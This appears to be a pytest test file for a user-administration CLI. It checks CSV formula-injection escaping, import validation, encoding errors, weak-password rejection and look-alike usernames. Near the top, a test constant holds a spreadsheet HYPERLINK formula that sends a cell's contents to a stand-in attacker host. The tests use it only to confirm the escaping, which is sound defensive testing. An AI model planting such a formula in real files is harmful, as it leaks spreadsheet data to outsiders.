"""Hostile and careless input: CSV formulas, import rows, encodings, password strength, look-alike names."""

from __future__ import annotations

import csv
import io
import os
import select
import sqlite3
import sys
import time
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from authctl import csvsafe
from authctl.cli import app as cli_app
from authctl.errors import Conflict, InvalidInput
from authctl.names import new_username, skeleton
from authctl.store import MIGRATIONS, SCHEMA_VERSION, Store
from authctl.store.schema import _migration_6

from .apphelpers import make_demo_db
from .conftest import STRONG, Cli

FORMULA = '=HYPERLINK("http://evil.example/?"&D3)'


def users_in(db: Path) -> list[str]:
    with Store.open(db) as store:
        return [user.username for user in store.list_users()]


def add(cli: Cli, name: str, *extra: str, password: str = STRONG):
    return cli("user", "add", name, "--password-stdin", *extra, input=password + "\n")


# --------------------------------------------------------------------------- CSV formula injection


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", FORMULA])
def test_csv_cells_that_start_a_formula_get_a_leading_quote(value: str) -> None:
    assert csvsafe.escape(value) == "'" + value
    assert csvsafe.unescape(csvsafe.escape(value)) == value


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from("'=+-@\t\rab,\""), max_size=6))
def test_csv_quoting_round_trips_every_value(value: str) -> None:
    """unescape undoes escape exactly, and no escaped cell starts a formula."""
    cell = csvsafe.escape(value)
    assert csvsafe.unescape(cell) == value
    assert not cell.startswith(csvsafe.TRIGGERS)


def test_user_export_csv_never_writes_a_formula_and_imports_back(seeded: Cli, tmp_path: Path) -> None:
    assert add(seeded, FORMULA, "--role", "student").exit_code == 0
    assert seeded("user", "add", "--password-stdin", "--", "-dash", input=STRONG + "\n").exit_code == 0
    out = tmp_path / "export.csv"
    assert seeded("user", "export", "--format", "csv", "--with-hashes", "-o", str(out)).exit_code == 0
    rows = list(csv.reader(io.StringIO(out.read_text())))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(csvsafe.TRIGGERS)]
    assert "'" + FORMULA in cells and "'-dash" in cells
    fresh = Cli(tmp_path / "fresh.db")
    fresh("init")
    for role in ("student", "admin"):
        fresh("role", "add", role)
    result = fresh("user", "import", str(out))
    assert result.exit_code == 0, result.stderr
    assert sorted(users_in(fresh.db)) == sorted(["-dash", FORMULA, "rahul", "suman"])
    with Store.open(fresh.db) as store:
        assert store.get_user(FORMULA).roles == ("student",)


def test_import_takes_off_only_the_quote_export_adds(seeded: Cli, tmp_path: Path) -> None:
    path = tmp_path / "users.csv"
    path.write_text("username,password\n'=eq,Good-Password-11x\n'plain,Good-Password-22x\n")
    assert seeded("user", "import", str(path)).exit_code == 0
    assert set(users_in(seeded.db)) == {"=eq", "'plain", "rahul", "suman"}


def test_matrix_csv_never_writes_a_formula(cli: Cli) -> None:
    make_demo_db(cli)
    assert add(cli, "@admin", "--role", "admin").exit_code == 0
    result = cli("matrix", "--users", "@admin", "--format", "csv")
    assert result.exit_code == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert rows and {row["user"] for row in rows if row["user"] != "anonymous"} == {"'@admin"}
    assert not [cell for row in rows for cell in row.values() if cell.startswith(csvsafe.TRIGGERS)]


# --------------------------------------------------------------------------- import rows


def test_import_field_over_128_kib_is_a_line_numbered_error(seeded: Cli, tmp_path: Path) -> None:
    path = tmp_path / "big.csv"
    path.write_text("username,password\nasha,Good-Password-11x\nben," + "x" * (200 * 1024) + "\n")
    result = seeded("user", "import", str(path))
    assert result.exit_code == 1
    assert "line 3: a field is longer than 131072 characters (128 KiB)" in result.stderr
    assert "internal error" not in result.stderr and "Traceback" not in result.stderr
    assert users_in(seeded.db) == ["rahul", "suman"]


def test_import_accepts_a_utf8_bom(seeded: Cli, tmp_path: Path) -> None:
    path = tmp_path / "excel.csv"
    path.write_bytes(b"\xef\xbb\xbfusername,password\r\nasha,Good-Password-11x\r\n")
    assert seeded("user", "import", str(path)).exit_code == 0
    piped = seeded("user", "import", "-", input="\ufeff" + '{"username": "ben", "password": "Good-Password-22x"}\n')
    assert piped.exit_code == 0, piped.stderr
    assert users_in(seeded.db) == ["asha", "ben", "rahul", "suman"]


def test_import_refuses_a_disabled_value_that_is_not_true_or_false(seeded: Cli, tmp_path: Path) -> None:
    path = tmp_path / "users.csv"
    path.write_text(
        "username,password,disabled\n"
        "asha,Good-Password-11x,true\n"
        "ben,Good-Password-22x,maybe\n"
        "carl,Good-Password-33x,ture\n"
        "dev,Good-Password-44x,\n"
    )
    result = seeded("user", "import", str(path))
    assert result.exit_code == 1
    assert "line 3: disabled must be true or false, not 'maybe'" in result.stderr
    assert "line 4: disabled must be true or false, not 'ture'" in result.stderr
    assert users_in(seeded.db) == ["rahul", "suman"]
    jsonl = tmp_path / "users.jsonl"
    jsonl.write_text('{"username": "asha", "password": "Good-Password-11x", "disabled": true}\n'
                     '{"username": "ben", "password": "Good-Password-22x", "disabled": "no"}\n')
    assert seeded("user", "import", str(jsonl)).exit_code == 0
    with Store.open(seeded.db) as store:
        assert store.get_user("asha").disabled and not store.get_user("ben").disabled


# --------------------------------------------------------------------------- encodings


def _run_bytes(cli: Cli, args: list[str], data: bytes):
    result = cli.runner.invoke(cli_app, ["--db", str(cli.db), *args], input=data)
    return result.exit_code, result.stderr


@pytest.mark.parametrize("args", [
    ["user", "import", "-"],
    ["user", "add", "asha", "--password-stdin"],
    ["user", "passwd", "rahul", "--password-stdin"],
])
def test_non_utf8_input_is_one_line_naming_the_encoding(seeded: Cli, args: list[str]) -> None:
    code, stderr = _run_bytes(seeded, args, b"\xff\xfeusername\n")
    assert code == 1
    assert stderr.strip() == "error: stdin is not UTF-8 text (byte 0xff at offset 0); convert it to UTF-8 first"
    assert users_in(seeded.db) == ["rahul", "suman"]


def test_non_utf8_import_files_and_demo_passwords_are_one_line_too(cli: Cli, tmp_path: Path) -> None:
    code, stderr = _run_bytes(cli, ["init", "--demo", "--password-stdin"], b"caf\xe9-Password-1\n")
    assert code == 1 and "stdin is not UTF-8 text (byte 0xe9 at offset 3)" in stderr
    assert not cli.db.exists()
    cli("init")
    path = tmp_path / "latin1.csv"
    path.write_bytes("username,password\nrené,Good-Password-11x\n".encode("latin-1"))
    result = cli("user", "import", str(path))
    assert result.exit_code == 1 and f"{path} is not UTF-8 text (byte 0xe9" in result.stderr


# --------------------------------------------------------------------------- passwords at the command line


@pytest.mark.parametrize("weak", ["aaaaaaaa", "abcdefgh", "Password123!", "p@ssw0rd1", "letmein!!"])
def test_guessable_passwords_are_refused_by_user_add_with_feedback(seeded: Cli, weak: str) -> None:
    result = add(seeded, "asha", password=weak)
    assert result.exit_code == 1
    assert "password rejected" in result.stderr and weak not in result.stderr
    assert users_in(seeded.db) == ["rahul", "suman"]


def test_minimum_password_score_is_a_setting(seeded: Cli) -> None:
    assert add(seeded, "asha", password="Vq7#mZ2p").exit_code == 1
    assert seeded("config", "set", "password_min_score", "2").exit_code == 0
    assert add(seeded, "asha", password="Vq7#mZ2p").exit_code == 0


def _wait_for_hidden_input(fd: int, deadline: float) -> None:
    """Type only once the prompt has turned echo off: getpass flushes what was typed before (TCSAFLUSH)."""
    import termios

    while termios.tcgetattr(fd)[3] & termios.ECHO:
        if time.monotonic() > deadline:
            raise AssertionError("the prompt never turned echo off")
        time.sleep(0.01)


def _read_until(fd: int, wanted: bytes, seen: bytearray, deadline: float) -> None:
    while wanted not in seen:
        if time.monotonic() > deadline:
            raise AssertionError(f"never saw {wanted!r} in {bytes(seen)[-300:]!r}")
        ready, _, _ = select.select([fd], [], [], 0.5)
        if ready:
            try:
                chunk = os.read(fd, 4096)
            except OSError:
                chunk = b""
            if not chunk:
                raise AssertionError(f"the command ended before {wanted!r}: {bytes(seen)[-300:]!r}")
            seen += chunk


@pytest.mark.skipif(sys.platform == "win32", reason="needs a pseudo-terminal")
def test_a_refused_password_at_the_prompt_asks_again(initialized: Cli) -> None:
    """On a real terminal (a pty, so the hidden prompt reads /dev/tty) a weak password is explained and asked again."""
    import pty

    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[1]), "NO_COLOR": "1", "TERM": "dumb"}
    pid, fd = pty.fork()
    if pid == 0:  # the child: authctl on the pty
        os.execve(sys.executable, [sys.executable, "-m", "authctl", "--db", str(initialized.db), "user", "add", "asha"], env)
    seen = bytearray()
    deadline = time.monotonic() + 120  # generous: a loaded machine starts Python slowly
    try:
        for password in ("letmein!!", STRONG):
            _read_until(fd, b"New password for asha", seen, deadline)
            _wait_for_hidden_input(fd, deadline)
            os.write(fd, password.encode() + b"\r")
            _read_until(fd, b"Repeat for confirmation", seen, deadline)
            _wait_for_hidden_input(fd, deadline)
            os.write(fd, password.encode() + b"\r")
            if password != STRONG:
                _read_until(fd, b"try another", seen, deadline)
                del seen[:]
        _read_until(fd, b"added user asha", seen, deadline)
    finally:
        done, status = os.waitpid(pid, os.WNOHANG)
        if not done:  # stuck at a prompt after a failed expectation: end it, never wait forever
            deadline = time.monotonic() + 30
            while not done and time.monotonic() < deadline:
                time.sleep(0.05)
                done, status = os.waitpid(pid, os.WNOHANG)
            if not done:
                os.kill(pid, 9)
                _, status = os.waitpid(pid, 0)
        os.close(fd)
    assert os.waitstatus_to_exitcode(status) == 0
    assert users_in(initialized.db) == ["asha"]


# --------------------------------------------------------------------------- usernames: look-alikes and scripts


CYRILLIC_RAHUL = "r\u0430hul"  # а is U+0430


def test_a_username_confusable_with_an_existing_one_is_refused(seeded: Cli) -> None:
    for name in (CYRILLIC_RAHUL, "rahu1", "RAHU1"):
        result = add(seeded, name, "--role", "admin", "--allow-mixed-script")
        assert result.exit_code == 1, name
        assert "looks like existing user 'rahul'" in result.stderr
    assert "r\\u0430hul" in add(seeded, CYRILLIC_RAHUL, "--allow-mixed-script").stderr  # the difference is shown
    assert users_in(seeded.db) == ["rahul", "suman"]
    with Store.open(seeded.db) as store, pytest.raises(Conflict, match="looks like existing user"):
        store.add_user(CYRILLIC_RAHUL, None, allow_mixed_script=True)


def test_a_username_that_mixes_scripts_needs_allow_mixed_script(seeded: Cli) -> None:
    refused = add(seeded, "\u0394elta")  # Greek Δ + Latin
    assert refused.exit_code == 1 and "mixes scripts (Greek, Latin)" in refused.stderr
    assert "--allow-mixed-script" in refused.stderr
    assert add(seeded, "\u0394elta", "--allow-mixed-script").exit_code == 0
    assert add(seeded, "\u6771\u4eacabc").exit_code == 0  # Han with Latin, as Japanese is written: one writing system
    with pytest.raises(InvalidInput, match="mixes scripts"):
        new_username("\u0394elta2")


def test_import_refuses_look_alikes_with_line_numbers(seeded: Cli, tmp_path: Path) -> None:
    path = tmp_path / "users.csv"
    path.write_text(
        "username,password\n"
        "asha,Good-Password-11x\n"
        "rahu1,Good-Password-22x\n"            # line 3: looks like rahul (existing)
        "ben,Good-Password-33x\n"
        "BEN\u0405,Good-Password-44x\n"         # line 5: Cyrillic Ѕ: mixed scripts
    )
    result = seeded("user", "import", str(path))
    assert result.exit_code == 1
    assert "line 3: user 'rahu1' looks like existing user 'rahul'" in result.stderr
    assert "line 5: invalid username" in result.stderr and "mixes scripts" in result.stderr
    assert users_in(seeded.db) == ["rahul", "suman"]
    twins = tmp_path / "twins.csv"
    twins.write_text("username,password\nwill,Good-Password-11x\nwi1l,Good-Password-22x\n")
    result = seeded("user", "import", str(twins))
    assert result.exit_code == 1 and "line 3: user 'wi1l' looks like 'will' on line 2" in result.stderr


def test_a_look_alike_of_anonymous_is_reserved_too() -> None:
    with pytest.raises(InvalidInput, match="reserved"):
        new_username("an\u043enymous", allow_mixed_script=True)  # Cyrillic о


def test_the_look_alike_check_is_one_indexed_lookup(store: Store) -> None:
    statements: list[str] = []
    store.conn.set_trace_callback(statements.append)
    try:
        assert store.find_look_alike("rahu1").username == "rahul"
    finally:
        store.conn.set_trace_callback(None)
    lookups = [s for s in statements if "username_skeleton" in s]
    assert len(lookups) == 1
    plan = " ".join(str(row) for row in store.conn.execute("EXPLAIN QUERY PLAN " + lookups[0]))
    assert "USING INDEX" in plan and "SCAN u" not in plan, plan


def test_upgrading_fills_in_the_skeletons_of_existing_users(seeded: Cli) -> None:
    with sqlite3.connect(seeded.db) as conn:
        conn.execute("UPDATE users SET username_skeleton = NULL")
        conn.execute(f"PRAGMA user_version={MIGRATIONS.index(_migration_6)}")  # a file from before the skeletons
    with Store.open(seeded.db) as store:
        assert store.schema_version == SCHEMA_VERSION
        stored = dict(store.conn.execute("SELECT username, username_skeleton FROM users"))
        assert stored == {"rahul": skeleton("rahul"), "suman": skeleton("suman")}
        assert store.find_look_alike("surnan").username == "suman"  # rn looks like m
